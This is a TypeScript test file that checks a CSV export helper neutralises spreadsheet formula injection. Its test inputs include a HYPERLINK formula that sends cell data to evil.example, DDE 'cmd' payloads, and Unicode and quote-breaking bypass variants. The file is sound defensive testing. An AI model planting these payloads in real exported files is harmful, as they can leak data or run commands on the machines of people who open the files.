import { describe, expect, it } from "vitest";
import { csvCell, csvLine } from "./csv.ts";

/** The text of a cell as a reader of CSV gets it. */
const read = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

describe("CSV formulas are neutralised", () => {
  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u0000=1",
    "\u200B=1",
    "\uFEFF=1",
    "\uFF1D1+1",
    "|calc",
    "%0A=1",
  ])("%j becomes text", (text) => {
    expect(read(csvCell(text))).toBe(`'${text}`);
  });

  it("cannot be got around by ending the cell", () => {
    expect(csvLine(['x","=1+1', "y\r\n=1+1,z", "a;=1+1"])).toBe('"x"",""=1+1","y\r\n=1+1,z","a;=1+1"\r\n');
  });
});

it("plain values stay as they are", () => {
  expect(csvLine(["ann", "a-b", "1 = 1", " padded ", "2026-01-31T12:00:00.000Z", -5, 1.5, true, null, ""])).toBe('ann,a-b,1 = 1," padded ",2026-01-31T12:00:00.000Z,-5,1.5,true,,\r\n');
});
